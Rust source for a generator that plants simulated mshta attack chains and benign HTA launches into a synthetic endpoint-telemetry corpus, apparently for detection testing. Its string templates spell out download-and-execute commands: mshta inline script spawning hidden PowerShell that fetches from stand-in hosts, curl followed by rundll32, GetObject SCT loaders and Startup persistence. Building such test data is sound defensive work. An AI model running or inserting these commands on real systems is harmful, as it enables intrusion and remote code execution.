//! Planted mshta chains: the events a real mshta attack or a legitimate HTA leaves, scheduled into
//! the corpus at absolute times. Attacks vary the launcher (cmd, PowerShell, Word, Outlook, WMI,
//! Explorer), the command line (javascript:/vbscript:/about: inline script, GetObject SCT, remote HTA,
//! UNC/WebDAV, downloaded HTA, renamed copy) and the follow-on (DNS + connection to a public address,
//! cache and payload files, child shells/rundll32, Startup persistence, late beacons). Benign use is
//! Explorer opening a vendor HTA, SCCM's splash screen and HP Support Framework, with little or no
//! follow-on. Every chain's processes are registered on the host (pids stay unique) and end.

use super::catalog::{self, Role};
use super::host::{Host, Proc};
use super::{activity, names};
use crate::model::{Event, Kind, ParentInfo, Process};
use crate::render::enrich;
use crate::rng::Rng;

/// Marks the root mshta start of a planted chain, for counting at emission.
#[derive(Debug, Clone)]
pub struct PlantTag {
    pub attack: bool,
    pub variant: &'static str,
}

/// Something that will happen at a known time.
pub enum Scheduled {
    Emit(Box<Event>, Option<PlantTag>),
    /// End of a process (found by serial; nothing happens if it is already gone).
    End {
        host: usize,
        serial: u64,
    },
}

/// The explorer double-click verb GUID mshta receives for `.hta` files.
const HTA_VERB: &str = "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}";

struct Builder<'a> {
    host: &'a mut Host,
    idx: usize,
    out: &'a mut Vec<(i64, Scheduled)>,
}

impl Builder<'_> {
    fn rng(&mut self) -> &mut Rng {
        &mut self.host.rng
    }

    #[allow(clippy::too_many_arguments)]
    fn spawn(
        &mut self,
        at: i64,
        parent: &ParentInfo,
        image: &str,
        ofn: &str,
        cmd: String,
        user: &str,
        life: i64,
        tag: Option<PlantTag>,
    ) -> Proc {
        let pid = self.host.alloc_pid();
        let guid = self.host.mint_guid(at);
        let serial = self.host.serial();
        let p = Proc {
            serial,
            pid,
            guid,
            image: image.to_string(),
            ofn: ofn.to_string(),
            cmd,
            user: user.to_string(),
            start_ms: at,
            end_ms: at + life,
            role: Role::Planted,
            persistent: false,
        };
        self.host.add(p.clone());
        let process = Process {
            host: self.host.name.clone(),
            pid,
            guid: p.guid.clone(),
            image: p.image.clone(),
            command_line: p.cmd.clone(),
            user: p.user.clone(),
            original_file_name: p.ofn.clone(),
            start_ms: at,
            parent: Some(parent.clone()),
        };
        self.push(at, Kind::ProcessStart(process), tag);
        self.out.push((at + life, Scheduled::End { host: self.idx, serial }));
        p
    }

    fn push(&mut self, at: i64, kind: Kind, tag: Option<PlantTag>) {
        let ev = Event { time_ms: at, host: self.host.name.clone(), kind };
        self.out.push((at, Scheduled::Emit(Box::new(ev), tag)));
    }

    fn load(&mut self, at: i64, actor: &Proc, path: &str) {
        self.push(at, Kind::ImageLoad { actor: actor.actor(), path: path.to_string() }, None);
    }

    fn file(&mut self, at: i64, actor: &Proc, path: String) {
        self.push(at, Kind::FileCreate { actor: actor.actor(), path }, None);
    }

    fn dns(&mut self, at: i64, actor: &Proc, query: &str, answers: Vec<String>) {
        self.push(at, Kind::Dns { actor: actor.actor(), query: query.to_string(), answers }, None);
    }

    fn connect(&mut self, at: i64, actor: &Proc, ip: &str, port: u16, name: Option<&str>) {
        let src_port = self.rng().range(49_700, 65_000) as u16;
        let kind = Kind::Network {
            actor: actor.actor(),
            src_ip: self.host.ip.clone(),
            src_port,
            dst_ip: ip.to_string(),
            dst_port: port,
            dst_hostname: name.map(str::to_string),
            outbound: true,
            protocol: "tcp".into(),
        };
        self.push(at, kind, None);
    }

    /// Resolve (when a name) and connect; returns the time after the connection.
    fn reach(&mut self, at: i64, actor: &Proc, infra: &Infra, port: u16) -> i64 {
        let mut t = at;
        if let Some(name) = &infra.name {
            let mut answers = Vec::new();
            if let Some(c) = &infra.cname {
                answers.push(c.clone());
            }
            answers.push(infra.ip.clone());
            self.dns(t, actor, name, answers);
            t += self.rng().range(5, 120);
        }
        // Sysmon's DestinationHostname is its own reverse lookup: usually nothing for attacker IPs.
        self.connect(t, actor, &infra.ip, port, None);
        t + self.rng().range(50, 400)
    }

    fn user_dir(&self) -> String {
        format!("C:\\Users\\{}", self.host.user_short)
    }
}

/// Attacker infrastructure for one chain.
struct Infra {
    name: Option<String>,
    cname: Option<String>,
    ip: String,
    /// Path on the server, without extension.
    path: String,
}

fn infra(rng: &mut Rng) -> Infra {
    const W1: &[&str] = &["cdn", "update", "secure", "files", "docs", "sync", "cloud", "static", "portal", "share"];
    const W2: &[&str] = &["service", "storage", "office", "center", "hub", "delivery", "online", "systems"];
    const NETS: &[&str] = &["198.51.100", "203.0.113", "192.0.2"];
    const PATHS: &[&str] = &["invoice", "doc", "update", "payload", "a", "view", "index", "sct/loader", "p"];
    if rng.chance(0.2) {
        // The Atomic Red Team test fetches its SCT/HTA from GitHub (as in the OTRF recordings).
        return Infra {
            name: Some("raw.githubusercontent.com".into()),
            cname: Some("github.map.fastly.net".into()),
            ip: format!("185.199.{}.133", rng.range(108, 111)),
            path: "redcanaryco/atomic-red-team/master/atomics/T1218.005/src/T1218.005".into(),
        };
    }
    let ip = format!("{}.{}", rng.pick(NETS), rng.range(2, 250));
    if rng.chance(0.15) {
        return Infra { name: None, cname: None, ip, path: rng.pick(PATHS).to_string() };
    }
    let tld = rng.pick(&["com", "net", "org"]).to_string();
    let name = format!("{}-{}.example.{tld}", rng.pick(W1), rng.pick(W2));
    let cname = rng.chance(0.3).then(|| format!("{}.edge.example.{tld}", name.replace('.', "-")));
    Infra { name: Some(name), cname, ip, path: rng.pick(PATHS).to_string() }
}

impl Infra {
    fn host(&self) -> &str {
        self.name.as_deref().unwrap_or(&self.ip)
    }

    fn url(&self, scheme: &str, ext: &str) -> String {
        format!("{scheme}://{}/{}.{ext}", self.host(), self.path)
    }
}

/// UTF-16LE base64, as `powershell -enc` takes it.
fn encode_ps(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    enrich::base64(&bytes)
}

/// Plant one chain on `host` starting at or after `now`. Returns the variant name.
pub fn plant(host: &mut Host, idx: usize, now: i64, attack: bool, out: &mut Vec<(i64, Scheduled)>) -> &'static str {
    let mut b = Builder { host, idx, out };
    if attack {
        attack_chain(&mut b, now)
    } else {
        benign_chain(&mut b, now)
    }
}

fn persistent_parent(b: &mut Builder, role: Role) -> Option<ParentInfo> {
    b.host.procs.iter().find(|p| p.role == role && p.persistent).map(Proc::as_parent)
}

fn attack_chain(b: &mut Builder, now: i64) -> &'static str {
    let user = b.host.user.clone();
    let ud = b.user_dir();
    let inf = infra(b.rng());
    let explorer = persistent_parent(b, Role::Explorer);
    let t0 = now + b.rng().range(200, 2_000);
    // The launcher: parent kind, weights as listed.
    let launcher = ["cmd", "powershell", "winword", "outlook", "wmiprvse", "explorer"]
        [b.rng().weighted(&[25, 15, 15, 10, 10, 25])];
    let explorer = match explorer {
        Some(e) => e,
        // Servers have no desktop: fall back to a WMI launch.
        None => return wmi_attack(b, t0, &user, &inf),
    };
    let pre = b.rng().range(3_000, 90_000);
    let tm = t0 + pre;
    let (parent, variants): (ParentInfo, &[&'static str]) = match launcher {
        "cmd" => {
            let cmd = if b.rng().chance(0.5) {
                r#""C:\Windows\system32\cmd.exe" "#.to_string()
            } else {
                format!(r#"C:\Windows\system32\cmd.exe /c "{ud}\Downloads\Invoice_{}.bat""#, b.rng().range(1000, 9999))
            };
            let p = b.spawn(t0, &explorer, catalog::CMD, "Cmd.Exe", cmd, &user, pre + 600_000, None);
            (
                p.as_parent(),
                &["js_getobject_sct", "vbscript_execute", "about_inline", "javascript_inline", "remote_hta", "unc_hta"],
            )
        }
        "powershell" => {
            let cmd = if b.rng().chance(0.5) {
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#.to_string()
            } else {
                format!(r"powershell.exe -ExecutionPolicy Bypass -File {ud}\Downloads\setup.ps1")
            };
            let p = b.spawn(t0, &explorer, catalog::POWERSHELL, "PowerShell.EXE", cmd, &user, pre + 600_000, None);
            (p.as_parent(), &["js_getobject_sct", "vbscript_execute", "javascript_inline", "remote_hta", "unc_hta"])
        }
        "winword" => {
            let n = b.rng().range(1000, 99_999);
            let cmd = format!(
                r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{ud}\Downloads\Invoice_{n}.docm" /o """#
            );
            let p = b.spawn(t0, &explorer, catalog::WINWORD, "WinWord.exe", cmd, &user, pre + 900_000, None);
            b.load(t0 + 400, &p, r"C:\Program Files\Microsoft Office\root\vfs\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL");
            (p.as_parent(), &["remote_hta", "js_getobject_sct", "vbscript_execute"])
        }
        "outlook" => {
            let cmd = r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#.to_string();
            let p = b.spawn(t0, &explorer, catalog::OUTLOOK, "Outlook.exe", cmd, &user, pre + 3_600_000, None);
            (p.as_parent(), &["outlook_attachment_hta"])
        }
        "wmiprvse" => return wmi_attack(b, t0, &user, &inf),
        _ => (explorer, &["downloaded_hta", "run_dialog_remote_hta", "run_dialog_vbscript"]),
    };
    let variant = b.rng().pick(variants);
    let parent_pi = parent.clone();
    mshta_attack(b, tm, &parent_pi, &user, &inf, variant)
}

/// WMI-launched mshta (lateral movement / persistence): WmiPrvSE from DcomLaunch, then mshta.
fn wmi_attack(b: &mut Builder, t0: i64, user: &str, inf: &Infra) -> &'static str {
    let dcom = match persistent_parent(b, Role::SvcDcom) {
        Some(d) => d,
        None => return "none",
    };
    let wmi = b.spawn(
        t0,
        &dcom,
        catalog::WMIPRVSE,
        "Wmiprvse.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding".into(),
        "NT AUTHORITY\\NETWORK SERVICE",
        700_000,
        None,
    );
    let variant = b.rng().pick(&["vbscript_execute", "javascript_inline", "remote_hta"]);
    let tm = t0 + b.rng().range(500, 4_000);
    mshta_attack(b, tm, &wmi.as_parent(), user, inf, variant)
}

fn mshta_attack(
    b: &mut Builder,
    tm: i64,
    parent: &ParentInfo,
    user: &str,
    inf: &Infra,
    variant: &'static str,
) -> &'static str {
    let ud = b.user_dir();
    let c2 = infra(b.rng());
    let stage_url = c2.url("https", "ps1");
    let download = format!("IEX (New-Object Net.WebClient).DownloadString('{stage_url}')");
    let (cmd, remote, engine, child): (String, Option<(u16, &str)>, &str, &str) = match variant {
        "js_getobject_sct" => (
            format!("mshta.exe  javascript:a=(GetObject('script:{}')).Exec();close();", inf.url("https", "sct")),
            Some((443, "sct")),
            "jscript9.dll",
            if b.rng().chance(0.5) { "calc" } else { "powershell_enc" },
        ),
        "vbscript_execute" => (
            format!(
                r#""C:\Windows\system32\mshta.exe" vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c {download}"", 0:close")"#
            ),
            None,
            "vbscript.dll",
            "powershell_download",
        ),
        "about_inline" => (
            format!(
                r#"mshta.exe "about:<hta:application><script language=""VBScript"">Close(Execute(""CreateObject(""""WScript.Shell"""").Run """"cmd.exe /c curl -s -o %APPDATA%\{0}.dll {1}&&rundll32 %APPDATA%\{0}.dll,DllRegisterServer"""",0""))</script>""#,
                c2.path.replace('/', "_"),
                c2.url("https", "bin")
            ),
            None,
            "vbscript.dll",
            "cmd_curl_rundll32",
        ),
        "javascript_inline" => (
            format!(
                r#"mshta javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell").Run("powershell -w hidden -enc {}",0);close()"#,
                encode_ps(&download)
            ),
            None,
            "jscript9.dll",
            "powershell_enc",
        ),
        "remote_hta" | "run_dialog_remote_hta" => (
            if b.rng().chance(0.5) {
                format!("mshta.exe {}", inf.url("https", "hta"))
            } else {
                format!(r#""C:\Windows\system32\mshta.exe" {}"#, inf.url("http", "hta"))
            },
            Some((443, "hta")),
            "vbscript.dll",
            "any",
        ),
        "unc_hta" => (
            if inf.name.is_some() && b.rng().chance(0.5) {
                format!(r"mshta.exe \\{}@SSL\DavWWWRoot\{}.hta", inf.host(), inf.path.replace('/', "\\"))
            } else {
                format!(r"mshta.exe \\{}\share\{}.hta", inf.ip, inf.path.rsplit('/').next().unwrap_or("a"))
            },
            Some((445, "")),
            "vbscript.dll",
            "any",
        ),
        "run_dialog_vbscript" => (
            format!(r#""C:\Windows\system32\mshta.exe" vbscript:CreateObject("WScript.Shell").Run("powershell -nop -w hidden -c {download}",0)(window.close)"#),
            None,
            "vbscript.dll",
            "powershell_download",
        ),
        "downloaded_hta" => (
            format!(r#""C:\Windows\System32\mshta.exe" "{ud}\Downloads\Invoice_{}.hta" {HTA_VERB}"#, b.rng().range(100, 9999)),
            Some((443, "")),
            "jscript9.dll",
            "any",
        ),
        _ /* outlook_attachment_hta */ => {
            let a8 = names::expand("`A8`", &names::Ctx { user: "", host: "", time_ms: tm }, b.rng());
            let path = format!(r"{ud}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{a8}\Payment_Advice_{}.hta", b.rng().range(100, 999));
            // Outlook saves the attachment, then the user opens it.
            let outlook = Proc {
                serial: 0,
                pid: parent.pid,
                guid: parent.guid.clone(),
                image: parent.image.clone(),
                ofn: String::new(),
                cmd: parent.command_line.clone(),
                user: user.to_string(),
                start_ms: parent.start_ms,
                end_ms: i64::MAX,
                role: Role::Planted,
                persistent: false,
            };
            let saved = (tm - b.rng().range(1_500, 20_000)).max(parent.start_ms + 500);
            b.file(saved, &outlook, path.clone());
            (format!(r#""C:\Windows\System32\mshta.exe" "{path}" {HTA_VERB}"#), Some((443, "")), "vbscript.dll", "any")
        }
    };
    // Now and then the binary is a renamed copy (OriginalFileName still MSHTA.EXE).
    let image = if b.rng().chance(0.08) {
        format!(
            r"C:\Users\Public\Libraries\{}.exe",
            b.rng().pick(&["winhelp32", "msupdate", "OneDriveSync", "mshelper"])
        )
    } else {
        catalog::MSHTA.to_string()
    };
    let cmd = if image == catalog::MSHTA { cmd } else { renamed_command(&cmd, &image) };
    let inline = remote.is_none() || variant == "js_getobject_sct";
    let life = if inline { b.rng().range(3_500, 9_000) } else { b.rng().range(8_000, 180_000) };
    let tag = PlantTag { attack: true, variant };
    let m = b.spawn(tm, parent, &image, "MSHTA.EXE", cmd, user, life, Some(tag));
    let mut t = tm + b.rng().range(30, 120);
    b.load(t, &m, r"C:\Windows\System32\mshtml.dll");
    t += b.rng().range(20, 200);
    b.load(t, &m, &format!(r"C:\Windows\System32\{engine}"));
    if b.rng().chance(0.6) {
        b.load(t + 15, &m, r"C:\Windows\System32\amsi.dll");
    }
    if let Some((port, ext)) = remote {
        b.load(t + 30, &m, r"C:\Windows\System32\urlmon.dll");
        b.load(t + 45, &m, r"C:\Windows\System32\wininet.dll");
        let fetch_port =
            if variant == "unc_hta" && inf.name.is_some() && !m.cmd.contains(r"\share\") { 443 } else { port };
        let dt = b.rng().range(100, 700);
        t = b.reach(t + dt, &m, inf, fetch_port);
        if !ext.is_empty() {
            let a8 = names::expand("`A8`", &names::Ctx { user: "", host: "", time_ms: t }, b.rng());
            let name = inf.path.rsplit('/').next().unwrap_or("a");
            b.file(t + 20, &m, format!(r"{ud}\AppData\Local\Microsoft\Windows\INetCache\IE\{a8}\{name}[1].{ext}"));
        }
    }
    // HTA-style payloads sometimes persist from mshta itself.
    if b.rng().chance(0.2) {
        let name = b.rng().pick(&["update.hta", "OneDriveHelper.lnk", "syncsvc.vbs"]).to_string();
        b.file(t + 80, &m, format!(r"{ud}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\{name}"));
    }
    let child = if child == "any" {
        b.rng().pick(&["powershell_enc", "powershell_enc", "cmd_curl_rundll32", "rundll32", "none", "calc"])
    } else {
        child
    };
    let tc = (t + b.rng().range(300, 1_500)).min(tm + life - 200);
    let mp = m.as_parent();
    match child {
        "calc" => {
            let life = b_life(b, 5_000, 60_000);
            let c = b.spawn(
                tc,
                &mp,
                r"C:\Windows\System32\calc.exe",
                "CALC.EXE",
                r#""C:\Windows\System32\calc.exe" "#.into(),
                user,
                life,
                None,
            );
            b.load(tc + 40, &c, r"C:\Windows\System32\shell32.dll");
        }
        "powershell_download" | "powershell_enc" => {
            let cmd = if child == "powershell_enc" {
                format!("powershell.exe -nop -w hidden -enc {}", encode_ps(&download))
            } else {
                format!("powershell -nop -w hidden -c {download}")
            };
            powershell_stage(b, tc, &mp, user, cmd, &c2);
        }
        "cmd_curl_rundll32" => {
            let name = c2.path.replace('/', "_");
            let cmd = format!(
                r"cmd.exe /c curl -s -o %APPDATA%\{name}.dll {}&&rundll32 %APPDATA%\{name}.dll,DllRegisterServer",
                c2.url("https", "bin")
            );
            let life = b_life(b, 20_000, 40_000);
            let c = b.spawn(tc, &mp, catalog::CMD, "Cmd.Exe", cmd, user, life, None);
            let cp = c.as_parent();
            let curl = b.spawn(
                tc + 60,
                &cp,
                r"C:\Windows\System32\curl.exe",
                "curl.exe",
                format!("curl  -s -o {ud}\\AppData\\Roaming\\{name}.dll {}", c2.url("https", "bin")),
                user,
                3_000,
                None,
            );
            let t2 = b.reach(tc + 200, &curl, &c2, 443);
            let dll = format!(r"{ud}\AppData\Roaming\{name}.dll");
            b.file(t2 + 50, &curl, dll.clone());
            rundll32_stage(b, t2 + 3_200, &cp, user, &dll, &c2);
        }
        "rundll32" => {
            let dll = format!(r"C:\Users\Public\{}.dll", c2.path.replace('/', "_"));
            b.file(tc - 100, &m, dll.clone());
            rundll32_stage(b, tc, &mp, user, &dll, &c2);
        }
        _ => {}
    }
    variant
}

/// The command line as the renamed copy would show it: a quoted program path becomes the copy's
/// path, a bare `mshta`/`mshta.exe` its file name.
fn renamed_command(cmd: &str, image: &str) -> String {
    if let Some(rest) = cmd.strip_prefix('"') {
        let args = rest.split_once('"').map(|(_, a)| a).unwrap_or("");
        format!("\"{image}\"{args}")
    } else {
        let args = cmd.split_once(' ').map(|(_, a)| a).unwrap_or("");
        format!("{} {args}", crate::model::basename(image))
    }
}

fn b_life(b: &mut Builder, lo: i64, hi: i64) -> i64 {
    b.rng().range(lo, hi)
}

/// PowerShell second stage: loads the CLR and AMSI, fetches from C2, drops a payload (Temp or
/// Startup), maybe runs it, maybe beacons again after the correlation window.
fn powershell_stage(b: &mut Builder, at: i64, parent: &ParentInfo, user: &str, cmd: String, c2: &Infra) {
    let ud = b.user_dir();
    let late = b.rng().chance(0.15);
    let late_at = at + b.rng().range(660_000, 1_500_000);
    let life = if late { late_at - at + 10_000 } else { b.rng().range(20_000, 300_000) };
    let ps = b.spawn(at, parent, catalog::POWERSHELL, "PowerShell.EXE", cmd, user, life, None);
    let mut t = at + 60;
    for dll in activity::DLL_PS {
        b.load(t, &ps, dll);
        t += b.rng().range(10, 90);
    }
    let dt = b.rng().range(200, 1_500);
    t = b.reach(t + dt, &ps, c2, 443);
    let drop = if b.rng().chance(0.3) {
        format!(
            r"{ud}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\{}.lnk",
            b.rng().pick(&["Update", "OneDrive Sync", "Teams Helper"])
        )
    } else {
        format!(
            r"{ud}\AppData\Local\Temp\{}.exe",
            b.rng().pick(&["stage2", "svchost32", "update", "AdobeUpd", "tmp8F3A"])
        )
    };
    b.file(t + 300, &ps, drop.clone());
    if drop.ends_with(".exe") && b.rng().chance(0.6) {
        let te = t + b.rng().range(2_000, 8_000);
        let life = b_life(b, 600_000, 3_000_000);
        let ex = b.spawn(te, &ps.as_parent(), &drop, "?", format!("\"{drop}\" "), user, life, None);
        b.load(te + 30, &ex, r"C:\Windows\System32\ws2_32.dll");
        let dt = b.rng().range(500, 3_000);
        b.reach(te + dt, &ex, c2, 443);
    }
    if b.rng().chance(0.5) {
        let d = b.spawn(
            t + 1_000,
            &ps.as_parent(),
            r"C:\Windows\System32\whoami.exe",
            "whoami.exe",
            "\"C:\\Windows\\system32\\whoami.exe\" /all".into(),
            user,
            400,
            None,
        );
        b.load(t + 1_050, &d, r"C:\Windows\System32\netapi32.dll");
    }
    if late {
        b.reach(late_at, &ps, c2, 443);
    }
}

fn rundll32_stage(b: &mut Builder, at: i64, parent: &ParentInfo, user: &str, dll: &str, c2: &Infra) {
    let cmd = format!("rundll32  {dll},DllRegisterServer");
    let life = b_life(b, 120_000, 900_000);
    let r = b.spawn(at, parent, catalog::RUNDLL32, "RUNDLL32.EXE", cmd, user, life, None);
    b.load(at + 40, &r, dll);
    let dt = b.rng().range(500, 4_000);
    b.reach(at + dt, &r, c2, 443);
}

fn benign_chain(b: &mut Builder, now: i64) -> &'static str {
    let tm = now + b.rng().range(200, 2_000);
    let explorer = persistent_parent(b, Role::Explorer);
    let ccm = persistent_parent(b, Role::Ccm);
    let kind = b.rng().weighted(&[40, 35, 25]);
    match (kind, explorer, ccm) {
        (1, _, Some(ccm)) | (_, None, Some(ccm)) => {
            let cache = names::expand(
                r"C:\Windows\ccmcache\`h2`\splash.hta",
                &names::Ctx { user: "", host: "", time_ms: tm },
                b.rng(),
            );
            let cmd = format!(r#""C:\Windows\System32\mshta.exe" "{cache}""#);
            let life = b.rng().range(60_000, 600_000);
            let tag = PlantTag { attack: false, variant: "sccm_splash" };
            let m = b.spawn(tm, &ccm, catalog::MSHTA, "MSHTA.EXE", cmd, "NT AUTHORITY\\SYSTEM", life, Some(tag));
            b.load(tm + 60, &m, r"C:\Windows\System32\mshtml.dll");
            b.load(tm + 140, &m, r"C:\Windows\System32\vbscript.dll");
            "sccm_splash"
        }
        (2, Some(explorer), _) => {
            let user = b.host.user.clone();
            let hp_dir = r"C:\Program Files (x86)\Hewlett-Packard\HP Support Framework";
            let hp = b.spawn(
                tm,
                &explorer,
                &format!(r"{hp_dir}\HPSF.exe"),
                "HPSF.exe",
                format!(r#""{hp_dir}\HPSF.exe" /tray"#),
                &user,
                3_600_000,
                None,
            );
            let t = tm + b.rng().range(5_000, 60_000);
            let cmd = format!(r#""C:\Windows\SysWOW64\mshta.exe" "{hp_dir}\Resources\HPSFViewer\HPSFMsgViewer.hta""#);
            let life = b.rng().range(10_000, 300_000);
            let tag = PlantTag { attack: false, variant: "hp_support_hta" };
            let m = b.spawn(t, &hp.as_parent(), catalog::MSHTA_WOW64, "MSHTA.EXE", cmd, &user, life, Some(tag));
            b.load(t + 50, &m, r"C:\Windows\SysWOW64\mshtml.dll");
            b.load(t + 120, &m, r"C:\Windows\SysWOW64\jscript9.dll");
            "hp_support_hta"
        }
        (_, Some(explorer), _) => {
            let user = b.host.user.clone();
            let vendor = b.rng().pick(names::VENDORS);
            let app = b.rng().pick(&["Inventory", "Launcher", "Timesheet", "Helpdesk", "PrinterSetup"]);
            let hta = format!(r"C:\Program Files\{vendor}\{app}\{}.hta", app.to_ascii_lowercase());
            let cmd = format!(r#""C:\Windows\System32\mshta.exe" "{hta}" {HTA_VERB}"#);
            let life = b.rng().range(30_000, 1_200_000);
            let tag = PlantTag { attack: false, variant: "vendor_hta" };
            let m = b.spawn(tm, &explorer, catalog::MSHTA, "MSHTA.EXE", cmd, &user, life, Some(tag));
            b.load(tm + 60, &m, r"C:\Windows\System32\mshtml.dll");
            let engine = if b.rng().chance(0.5) {
                r"C:\Windows\System32\jscript9.dll"
            } else {
                r"C:\Windows\System32\vbscript.dll"
            };
            b.load(tm + 130, &m, engine);
            if b.rng().chance(0.4) {
                let ud = b.user_dir();
                let at = tm + b.rng().range(2_000, 20_000);
                b.file(at, &m, format!(r"{ud}\AppData\Local\{vendor}\{app}\settings.ini"));
            }
            if b.rng().chance(0.3) {
                let t = tm + b.rng().range(1_000, 5_000);
                let intranet = Infra {
                    name: Some("intranet.corp.example.com".into()),
                    cname: None,
                    ip: "10.0.1.40".into(),
                    path: String::new(),
                };
                b.reach(t, &m, &intranet, 443);
            }
            "vendor_hta"
        }
        _ => "none",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renamed_copy_command_lines() {
        let img = r"C:\Users\Public\Libraries\msupdate.exe";
        assert_eq!(
            renamed_command(r#""C:\Windows\system32\mshta.exe" vbscript:Execute("x")"#, img),
            r#""C:\Users\Public\Libraries\msupdate.exe" vbscript:Execute("x")"#
        );
        assert_eq!(renamed_command("mshta.exe https://a.example/b.hta", img), "msupdate.exe https://a.example/b.hta");
        assert!(encode_ps("IEX").starts_with("SQBFAFgA"));
    }
}
